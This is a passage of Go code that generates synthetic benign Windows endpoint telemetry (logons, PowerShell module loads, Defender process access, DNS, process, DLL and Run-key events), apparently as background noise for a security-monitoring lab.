		hosts = append(hosts, win{c.financeHosts[i%len(c.financeHosts)], fmt.Sprintf("%s.4.%d", c.subnet, 11+i*3), u, "windows-desktop"})
	}
	week := int64(7 * 24 * time.Hour)
	for i := range 30 {
		w := hosts[i%len(hosts)]
		host := hostFields(w.host, w.ip, w.family)
		at := g.now.Add(-time.Duration(g.rng.Int64N(week)))
		if w.user == "SYSTEM" {
			g.logon(c, host, at, "svc-monitor", c.subnet+".0.20", "Network", i%7 != 0)
		} else {
			g.logon(c, host, at, w.user, "127.0.0.1", "Interactive", i%9 != 0)
		}
	}
	modules := []string{`C:\Program Files\WindowsPowerShell\Modules\PSReadLine\2.0.0\PSReadLine.psm1`, `C:\Windows\system32\WindowsPowerShell\v1.0\Modules\Microsoft.PowerShell.Utility\Microsoft.PowerShell.Utility.psm1`, `C:\Program Files\WindowsPowerShell\Modules\PackageManagement\1.0.0.1\PackageManagement.psm1`}
	for i, w := range hosts {
		host := hostFields(w.host, w.ip, w.family)
		at := g.now.Add(-time.Duration(g.rng.Int64N(week)))
		user := w.user
		if user == "SYSTEM" {
			user = "svc-monitor"
		}
		// PowerShell loading its modules: script blocks from files
		m := modules[i%len(modules)]
		g.scriptBlock(c, host, at, user, 3000+g.rng.IntN(5000), "function Get-"+strings.TrimSuffix(m[strings.LastIndexByte(m, '\\')+1:], ".psm1")+"Option {\n    [CmdletBinding()]\n    param()\n    $script:Options.GetEnumerator() | Sort-Object Name\n}\nExport-ModuleMember -Function *", fmt.Sprint("sbm/", w.host, i), m)
		// Defender scanning lsass, as Sysmon's process access logging sees it
		g.sysmon(c, host, at.Add(time.Hour), 10, "Process accessed (rule: ProcessAccess)", "process", "", map[string]any{
			"event":   map[string]any{"type": []any{"access"}},
			"process": map[string]any{"name": "MsMpEng.exe", "executable": `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe`, "pid": 3900},
		}, map[string]any{"SourceImage": `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe`, "TargetImage": `C:\Windows\system32\lsass.exe`, "GrantedAccess": "0x1000", "SourceProcessId": "3900", "TargetProcessId": "720"})
		// Defend's DNS lookups
		for _, name := range []string{"login.microsoftonline.com", "www.google.com", "outlook.office365.com"} {
			g.add("endpoint.events.network", at.Add(time.Duration(g.rng.IntN(3600))*time.Second), "", map[string]any{
				"host": host, "user": map[string]any{"name": user, "domain": c.domain},
				"process": map[string]any{"name": "svchost.exe", "pid": 1420},
				"dns":     map[string]any{"question": map[string]any{"name": name, "type": "A"}, "resolved_ip": []any{fmt.Sprintf("192.0.2.%d", 10+g.rng.IntN(120))}},
				"network": map[string]any{"protocol": "dns"},
				"event":   map[string]any{"category": []any{"network"}, "type": []any{"protocol", "info"}, "action": "lookup_result", "outcome": "success"},
				"message": "Endpoint DNS event: " + name,
			})
		}
	}
	for i := range 24 {
		w := hosts[i%len(hosts)]
		host := hostFields(w.host, w.ip, w.family)
		at := g.now.Add(-time.Duration(g.rng.Int64N(week)))
		user := w.user
		if user == "SYSTEM" {
			user = "svc-monitor"
		}
		exe, cmd, parent := knownExe["chrome.exe"], `"`+knownExe["chrome.exe"]+`"`, knownExe["explorer.exe"]
		if i%3 == 1 {
			exe, cmd, parent = `C:\Windows\System32\gpupdate.exe`, `C:\Windows\system32\gpupdate.exe /target:computer`, knownExe["svchost.exe"]
		} else if i%3 == 2 {
			exe, cmd, parent = `C:\Windows\System32\taskhostw.exe`, `taskhostw.exe Install $(Arg0)`, knownExe["svchost.exe"]
		}
		pid := 1000 + g.rng.IntN(9000)
		g.securityProcess(c, host, at, user, exe, cmd, parent, pid, 700+g.rng.IntN(300))
		g.sysmon(c, host, at.Add(20*time.Millisecond), 1, "Process Create (rule: ProcessCreate)", "process", user, map[string]any{
			"event": map[string]any{"type": []any{"start"}},
			"process": map[string]any{"name": exe[strings.LastIndexByte(exe, '\\')+1:], "executable": exe, "command_line": cmd, "pid": pid, "args": anyFields(cmd),
				"hash": map[string]any{"sha256": sha256Of(exe)}, "parent": map[string]any{"name": parent[strings.LastIndexByte(parent, '\\')+1:], "executable": parent}},
		}, map[string]any{"IntegrityLevel": "Medium"})
		dst := fmt.Sprintf("192.0.2.%d", 10+g.rng.IntN(120))
		g.sysmon(c, host, at.Add(time.Duration(2+g.rng.IntN(30))*time.Second), 3, "Network connection detected (rule: NetworkConnect)", "network", user, map[string]any{
			"event":       map[string]any{"type": []any{"connection", "start"}},
			"process":     map[string]any{"name": "chrome.exe", "executable": knownExe["chrome.exe"], "pid": 6608},
			"source":      map[string]any{"ip": w.ip, "port": 49152 + g.rng.IntN(16000)},
			"destination": map[string]any{"ip": dst, "port": 443},
			"network":     map[string]any{"transport": "tcp", "direction": "egress", "protocol": "https", "type": "ipv4"},
		}, map[string]any{"Initiated": "true"})
		dll := []string{`C:\Windows\System32\kernel32.dll`, `C:\Windows\System32\crypt32.dll`, `C:\Windows\System32\ws2_32.dll`}[i%3]
		g.add("endpoint.events.library", at.Add(50*time.Millisecond), "", map[string]any{
			"host": host, "user": map[string]any{"name": user, "domain": c.domain},
			"process": map[string]any{"name": exe[strings.LastIndexByte(exe, '\\')+1:], "executable": exe, "pid": pid},
			"dll": map[string]any{"name": dll[strings.LastIndexByte(dll, '\\')+1:], "path": dll, "hash": map[string]any{"sha256": sha256Of(dll)},
				"code_signature": map[string]any{"exists": true, "trusted": true, "status": "trusted", "subject_name": "Microsoft Windows"}},
			"event":   map[string]any{"category": []any{"library"}, "type": []any{"start"}, "action": "load", "outcome": "success"},
			"message": "Endpoint DLL load event",
		})
		if i%4 == 0 {
			key := `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`
			val := []string{"SecurityHealth", "OneDrive", "Teams"}[i/4%3]
			data := []string{`%windir%\system32\SecurityHealthSystray.exe`, `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`, `"C:\Program Files\WindowsApps\MSTeams\ms-teams.exe" --system-initiated`}[i/4%3]
			g.add("endpoint.events.registry", at.Add(time.Second), "", map[string]any{
				"host": host, "user": map[string]any{"name": "SYSTEM"},
				"process":  map[string]any{"name": "svchost.exe", "executable": knownExe["svchost.exe"], "pid": 1204},
				"registry": map[string]any{"hive": "HKLM", "key": key, "path": `HKLM\` + key + `\` + val, "value": val, "data": map[string]any{"strings": []any{data}, "type": "REG_SZ"}},
				"event":    map[string]any{"category": []any{"registry"}, "type": []any{"change"}, "action": "modification", "outcome": "success"},
				"message":  "Endpoint registry event",
			})
		}
	}
}
